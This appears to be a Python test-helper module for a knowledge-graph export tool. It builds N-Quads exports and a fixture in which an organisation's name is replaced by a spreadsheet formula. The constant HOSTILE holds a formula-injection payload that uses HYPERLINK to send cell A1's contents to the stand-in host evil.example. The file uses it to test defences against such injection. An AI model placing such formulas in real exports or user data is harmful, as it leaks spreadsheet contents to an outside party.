"""What the tests of the forms for spreadsheets share: what is exported, and an export with a text that would be a formula."""

from __future__ import annotations

import pyoxigraph as ox

from kg.exports.export import export
from kg.exports.select import Choice, Selection

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"RIKEN")'


def quads_of(choice: Choice | None = None) -> list[ox.Quad]:
    content = export("nq", choice)
    assert isinstance(content, str)
    return list(ox.parse(content, format=ox.RdfFormat.N_QUADS))


def hostile_selection() -> Selection:
    """Everything, with a formula for a name."""
    text = export("nq")
    assert isinstance(text, str)
    escaped = HOSTILE.replace('"', '\\"')
    changed = text.replace('"RIKEN"@en', f'"{escaped}"@en').replace('"-0.8"', '"-0.9"')
    assert changed != text
    quads = tuple(ox.parse(changed, format=ox.RdfFormat.N_QUADS))
    return Selection(quads)
